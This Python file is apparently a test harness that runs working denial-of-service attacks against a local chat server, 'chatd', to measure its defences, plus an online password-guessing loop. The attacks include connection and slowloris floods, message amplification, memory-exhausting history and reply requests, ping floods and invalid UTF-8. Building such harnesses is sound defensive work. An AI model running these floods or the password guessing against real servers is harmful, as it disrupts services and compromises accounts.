#!/usr/bin/env python3
"""The attacks of issue 12, one function each, for attacks.py.

    attackers.py NAME scene|attack PORT

sets up NAME's scene (members, readers or a victim that both the baseline
and the attack run have), prints "ready", and in attack mode runs the attack
until SIGTERM; then prints one JSON line of what it saw (connections
welcomed and refused, errors by code, frames sent). Connections come from
127.0.0.2 and up, never from 127.0.0.1, which is the bystander's. Only for
measuring, only against 127.0.0.1.
"""
import collections
import json
import resource
import select
import selectors
import signal
import socket
import sys
import threading
import time

from rawconn import Conn, frame, pb

STOP = threading.Event()
SEEN = collections.Counter()
SEEN_LOCK = threading.Lock()


def count(key, n=1):
    with SEEN_LOCK:
        SEEN[key] += n


def code_name(code):
    return pb.Error.Code.Name(code).removeprefix("CODE_").lower()


def note_frame(f):
    body = f.WhichOneof("body")
    if body == "error":
        count("error " + code_name(f.error.code))
    elif body == "welcome":
        count("welcomed")


class Readers:
    """Reads every connection added to it on a thread of its own: answers
    server pings, counts errors and closes, and throws the rest away."""

    def __init__(self, on_close=None):
        self.sel = selectors.DefaultSelector()
        self.lock = threading.Lock()
        self.on_close = on_close
        threading.Thread(target=self.run, daemon=True).start()

    def add(self, conn):
        conn.sock.setblocking(False)
        with self.lock:
            self.sel.register(conn.sock, selectors.EVENT_READ, conn)

    def run(self):
        while not STOP.is_set():
            with self.lock:
                events = self.sel.select(0.02) if self.sel.get_map() else []
                for key, _ in events:
                    self.read(key.data)
            if not events:
                time.sleep(0.005)

    def read(self, conn):
        try:
            data = conn.sock.recv(1 << 16)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            data = b""
        if not data:
            self.sel.unregister(conn.sock)
            conn.close()
            count("closed by chatd")
            if self.on_close:
                self.on_close(conn)
            return
        conn.feed(data)
        while (f := conn.next_frame()) is not None:
            note_frame(f)
            if f.WhichOneof("body") == "ping":
                try:
                    conn.sock.send(frame(0, pong=pb.PongReply(nonce=f.ping.nonce)))
                except OSError:
                    pass


def connect(port, source, **kw):
    try:
        c = Conn(port, source, **kw)
        count("connected")
        return c
    except OSError:
        count("connect failed")
        time.sleep(0.01)
        return None


def member(port, source, nick, rooms=()):
    c = Conn(port, source, timeout=30)
    c.login(nick)
    for room in rooms:
        c.send(frame(2, join=pb.JoinRequest(room=room)))
        c.wait_for("join")
    return c


def flood(conn, data):
    """Writes `data` over and over until STOP, as fast as the socket takes
    it; the socket is non-blocking, as a Readers may be reading it too."""
    view, off = memoryview(data), 0
    while not STOP.is_set():
        select.select([], [conn.sock], [], 0.1)
        try:
            sent = conn.sock.send(view[off:])
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            count("send failed")
            return
        count("bytes sent", sent)
        off = (off + sent) % len(data)


def in_threads(n, target):
    threads = [threading.Thread(target=target, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    return threads


# --- the scenes and attacks, by finding ----------------------------------


def connect_flood(port, scene, ready):
    """1: one address opens connections as fast as it can and holds them,
    answering pings and never logging in."""
    ready()
    if scene:
        return
    readers = Readers()
    while not STOP.is_set():
        c = connect(port, "127.0.0.2", timeout=2)
        if c:
            readers.add(c)


def pre_login_flood(port, scene, ready):
    """1: 250 addresses hold as many pre-login connections as chatd lets
    them, against a cap of 2000 connections."""
    ready()
    if scene:
        return
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    readers = Readers()
    i = 0
    while not STOP.is_set():
        i += 1
        c = connect(port, f"127.0.1.{1 + i % 250}", timeout=2)
        if c:
            readers.add(c)


def slowloris(port, scene, ready):
    """2: 1000 connections from 40 addresses each send most of a frame, then
    one byte every 2 s; closed ones are opened again."""
    ready()
    if scene:
        return
    conns = {}

    def opened(i):
        c = connect(port, f"127.0.2.{1 + i % 40}", timeout=2)
        if c:
            try:
                c.sock.sendall(bytes([0xE8, 0x07]) + b"\x0a" * 990)  # a 1000-byte frame, 990 bytes of it
                c.sock.setblocking(False)
            except OSError:
                c.close()
                return None
        return c

    for i in range(1000):
        if STOP.is_set():
            return
        conns[i] = opened(i)
    while not STOP.is_set():
        time.sleep(2)
        for i, c in list(conns.items()):
            try:
                if c is None:
                    raise OSError
                try:
                    if c.sock.recv(1 << 16) == b"":
                        raise OSError
                except BlockingIOError:
                    pass
                c.sock.send(b"\x0a")
                count("bytes trickled")
            except OSError:
                if c:
                    c.close()
                    count("closed by chatd")
                conns[i] = opened(i)


def big_replies(port, scene, ready):
    """3: 8 fast readers from one address each pipeline joins of the 12
    full rooms, page through the 1800-room list and fetch history pages,
    reading everything, over and over."""
    ready()
    if scene:
        return

    def reader(i):
        c = member(port, "127.0.0.2", f"big{i}")
        rid = 100
        while not STOP.is_set():
            c.send(b"".join(frame(rid + r, join=pb.JoinRequest(room=f"#full{r}")) for r in range(12)))
            for _ in range(12):
                c.wait_for("join", 60)
            count("joins answered", 12)
            cursor = None
            while cursor != "":
                c.send(frame(rid, list_rooms=pb.ListRoomsRequest(cursor=cursor or "")))
                cursor = c.wait_for("list_rooms", 60).list_rooms.next_cursor
                count("room list pages")
            c.send(b"".join(frame(rid, history=pb.HistoryRequest(room=f"#full{r}", after_seq=0, limit=200))
                            for r in range(12)))
            for _ in range(12):
                c.wait_for("history", 60)
            count("history pages", 12)
            c.send(b"".join(frame(rid, leave=pb.LeaveRequest(room=f"#full{r}")) for r in range(12)))
            for _ in range(12):
                c.wait_for("leave", 60)
            rid += 100

    in_threads(8, reader)
    STOP.wait()


def non_readers(port, scene, ready):
    """4: 60 connections from one address each ask for about 0.9 MiB of
    history and never read, pinging every 5 s; dropped ones come back."""
    ready()
    if scene:
        return

    def non_reader(i):
        while not STOP.is_set():
            try:
                c = Conn(port, "127.0.0.2", rcvbuf=4096, timeout=10)
                c.login(f"deaf{i}")
                c.send(frame(2, join=pb.JoinRequest(room="#full0")))
                c.wait_for("join")
                c.send(b"".join(frame(3 + p, history=pb.HistoryRequest(room="#full0", after_seq=0, limit=200))
                                for p in range(3)))
                count("history asked")
                c.sock.settimeout(1)
                while not STOP.wait(5):
                    c.send(frame(9, ping=pb.PingRequest(nonce=1)))
            except (OSError, EOFError, RuntimeError):
                count("dropped or refused")
                time.sleep(0.5)

    in_threads(60, non_reader)
    STOP.wait()


def history_fill(port, scene, ready):
    """5: 8 addresses, one connection each in 20 rooms of its own, say
    4000-byte messages at 45 a second, past a 16 MiB history budget."""
    ready()
    if scene:
        return

    def filler(i):
        rooms = [f"#h{i}x{r}" for r in range(20)]
        c = member(port, f"127.0.0.{2 + i}", f"fill{i}", rooms)
        n = 0
        while not STOP.is_set():
            n += 1
            c.send(frame(10 + n, say=pb.SayRequest(room=rooms[n % 20], text="h" * 4000, client_msg_id=n)))
            c.wait_for("message", 30)
            count("messages stored")
            time.sleep(1 / 45)

    in_threads(8, filler)
    STOP.wait()


AMP_ROOMS = [f"#amp{r}" for r in range(50)]


def amplification_scene(port):
    """50 rooms of 100 members (from ten addresses, within their connect
    burst), all read by one thread."""
    members = []
    for j in range(100):
        c = member(port, f"127.0.0.{10 + j // 10}", f"m{j}", [AMP_ROOMS[j % 50]])
        members.append(c)
    for j, c in enumerate(members):
        others = [r for r in AMP_ROOMS if r != AMP_ROOMS[j % 50]]
        c.send(b"".join(frame(3, join=pb.JoinRequest(room=r)) for r in others))
        for _ in others:
            c.wait_for("join", 30)
    readers = Readers()
    for c in members:
        readers.add(c)


def amplifier(port, name, pattern, ready):
    c = member(port, "127.0.0.2", name, AMP_ROOMS)
    Readers().add(c)
    ready()
    flood(c, pattern)


def rename_flood(port, scene, ready):
    """6: in 50 rooms of 100 members, one connection renames as fast as it can."""
    amplification_scene(port)
    if scene:
        return ready()
    amplifier(port, "renamer", b"".join(frame(5, rename=pb.RenameRequest(nick=f"r{k}")) for k in range(64)), ready)


def topic_flood(port, scene, ready):
    """6: in the same rooms, one connection sets 512-byte topics as fast as it can."""
    amplification_scene(port)
    if scene:
        return ready()
    amplifier(port, "topical", b"".join(frame(6, set_topic=pb.SetTopicRequest(room=r, topic="T" * 512))
                                            for r in AMP_ROOMS), ready)


def frame_flood(port, body, ready):
    c = member(port, "127.0.0.2", "flooder")
    Readers().add(c)
    ready()
    flood(c, b"".join(frame(0, **body) for _ in range(1000)))


def pong_flood(port, scene, ready):
    """7: one logged-in connection writes pongs as fast as the socket takes them."""
    if scene:
        return ready()
    frame_flood(port, {"pong": pb.PongReply(nonce=1)}, ready)


def ping_flood(port, scene, ready):
    """7: one logged-in connection writes ping requests as fast as the socket takes them."""
    if scene:
        return ready()
    frame_flood(port, {"ping": pb.PingRequest(nonce=1)}, ready)


def dm_flood(port, scene, ready):
    """8: a reader on a ~1 Mbit/s link (reads 4 KiB every 32 ms); 16 senders
    from one address send it 4000-byte DMs as fast as chatd takes them."""
    victim = member(port, "127.0.0.5", "victim")
    victim.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)

    def slow_read():
        victim.sock.setblocking(False)
        while not STOP.is_set():
            time.sleep(0.032)
            try:
                data = victim.sock.recv(4096)
                if data == b"":
                    count("victim dropped")
                    return
                victim.feed(data)
                while (f := victim.next_frame()) is not None:
                    if f.WhichOneof("body") == "direct":
                        count("victim read dms")
                    elif f.WhichOneof("body") == "ping":
                        victim.sock.send(frame(0, pong=pb.PongReply(nonce=f.ping.nonce)))
            except BlockingIOError:
                pass

    threading.Thread(target=slow_read, daemon=True).start()
    ready()
    if scene:
        return
    dm = b"".join(frame(7, direct=pb.DirectRequest(nick="victim", text="d" * 4000)) for _ in range(16))

    def sender(i):
        c = member(port, "127.0.0.2", f"dm{i}")
        Readers().add(c)
        flood(c, dm)

    in_threads(16, sender)
    STOP.wait()


def room_churn(port, scene, ready):
    """9: five connections try to hold 20 new rooms each while a sixth loops
    join, say, leave through new rooms, all from one address."""
    ready()
    if scene:
        return

    def holder(i):
        c = member(port, "127.0.0.2", f"hold{i}")
        Readers().add(c)
        c.sock.setblocking(True)
        k = 0
        while not STOP.wait(0.05):
            k += 1
            c.send(frame(2, join=pb.JoinRequest(room=f"#hold{i}x{k}")))
            count("holds tried")

    def churner(_):
        c = member(port, "127.0.0.2", "churner")
        k = 0
        while not STOP.is_set():
            k += 1
            room = f"#churn{k}"
            c.send(frame(2, join=pb.JoinRequest(room=room)))
            try:
                c.wait_for("join")
            except RuntimeError:
                count("churn join refused")
                time.sleep(0.05)
                continue
            c.send(frame(3, say=pb.SayRequest(room=room, text="churn", client_msg_id=k)) +
                   frame(4, leave=pb.LeaveRequest(room=room)))
            c.wait_for("leave")
            count("rooms churned")

    in_threads(5, holder)
    in_threads(1, churner)
    STOP.wait()


def password_guess(port, scene, ready):
    """13: from one address, 4 connections guess an account's password as
    fast as chatd answers, each opened again when chatd closes it."""
    owner = member(port, "127.0.0.3", "victim")
    owner.send(frame(9, register_account=pb.RegisterRequest(password="the right password")))
    owner.wait_for("account")
    Readers().add(owner)
    if scene:
        return ready()

    def guesser(i):
        k = 0
        while not STOP.is_set():
            c = connect(port, "127.0.0.2", timeout=5)
            if c is None:
                continue
            try:
                c.wait_for("welcome")
                while not STOP.is_set():
                    k += 1
                    c.send(frame(k, hello=pb.HelloRequest(nick="victim", password=f"guess {i} {k}")))
                    count("guesses")
                    while True:
                        f = c.read_frame(5)
                        if f.WhichOneof("body") == "ping":
                            c.send(frame(0, pong=pb.PongReply(nonce=f.ping.nonce)))
                            continue
                        note_frame(f)
                        if f.request_id == k or f.WhichOneof("body") == "error":
                            break
            except (OSError, EOFError, RuntimeError):
                count("closed")
            finally:
                c.close()

    in_threads(4, guesser)
    ready()
    STOP.wait()


def bad_utf8(port, scene, ready):
    """10: log in, join, say a line with invalid UTF-8, and start again when
    chatd closes the connection, as fast as chatd lets one address connect."""
    ready()
    if scene:
        return
    say = frame(3, say=pb.SayRequest(room="#junk", text="QQQQ", client_msg_id=1)).replace(b"QQQQ", b"\xe9t\xe9!")
    k = 0
    while not STOP.is_set():
        k += 1
        c = connect(port, "127.0.0.2", timeout=5)
        if not c:
            continue
        try:
            c.login(f"latin{k}")
            c.send(frame(2, join=pb.JoinRequest(room="#junk")))
            c.wait_for("join")
            c.send(say)
            while True:
                note_frame(c.read_frame(5))
        except (OSError, EOFError, RuntimeError) as e:
            count("closed by chatd" if isinstance(e, EOFError) else "refused")
        c.close()


ATTACKS = {
    "connect-flood": {"finding": 1, "run": connect_flood, "what": " ".join(connect_flood.__doc__.split())},
    "pre-login-flood": {"finding": 1, "run": pre_login_flood, "flags": ["--max-connections", "2000"],
                        "what": " ".join(pre_login_flood.__doc__.split())},
    "slowloris": {"finding": 2, "run": slowloris, "what": " ".join(slowloris.__doc__.split())},
    "big-replies": {"finding": 3, "run": big_replies, "template": True, "what": " ".join(big_replies.__doc__.split())},
    "non-readers": {"finding": 4, "run": non_readers, "template": True, "what": " ".join(non_readers.__doc__.split())},
    "history-fill": {"finding": 5, "run": history_fill, "flags": ["--history-memory", "16MiB"],
                     "what": " ".join(history_fill.__doc__.split())},
    "rename": {"finding": 6, "run": rename_flood, "what": " ".join(rename_flood.__doc__.split())},
    "topic": {"finding": 6, "run": topic_flood, "what": " ".join(topic_flood.__doc__.split())},
    "pong": {"finding": 7, "run": pong_flood, "what": " ".join(pong_flood.__doc__.split())},
    "ping": {"finding": 7, "run": ping_flood, "what": " ".join(ping_flood.__doc__.split())},
    "dm-flood": {"finding": 8, "run": dm_flood, "what": " ".join(dm_flood.__doc__.split())},
    "room-churn": {"finding": 9, "run": room_churn, "what": " ".join(room_churn.__doc__.split())},
    "bad-utf8": {"finding": 10, "run": bad_utf8, "what": " ".join(bad_utf8.__doc__.split())},
    "password-guess": {"finding": 13, "run": password_guess, "what": " ".join(password_guess.__doc__.split())},
    # The same guessing, with other users' logins as the bystander: an
    # account logging in 5 times a second from 127.0.0.1 (under its connect
    # rate; one login at a time and one registration stay under its 3
    # attempts a minute, as right passwords are given back).
    "password-guess-logins": {"finding": 13, "run": password_guess,
                              "what": " ".join(password_guess.__doc__.split()),
                              "bystander": ["--logins", "--threads", "1", "--rate", "5", "--duration", "6",
                                            "--warmup", "1"]},
}


def main():
    name, mode, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    got_ready = threading.Event()
    run = ATTACKS[name]["run"]
    # The scene is set up first, in both modes; ready() comes once it is
    # and, in attack mode, once the attack is under way.
    def attack():
        try:
            run(port, mode == "scene", got_ready.set)
        except Exception as e:  # noqa: BLE001 - any failure ends the attacker, said on stdout
            print(f"failed: {name}: {type(e).__name__}: {e}", flush=True)
            STOP.set()

    threading.Thread(target=attack, daemon=True).start()
    while not got_ready.wait(0.1):
        if STOP.is_set():
            return
    print("ready", flush=True)
    STOP.wait()
    with SEEN_LOCK:
        print(json.dumps(dict(SEEN)), flush=True)


if __name__ == "__main__":
    main()
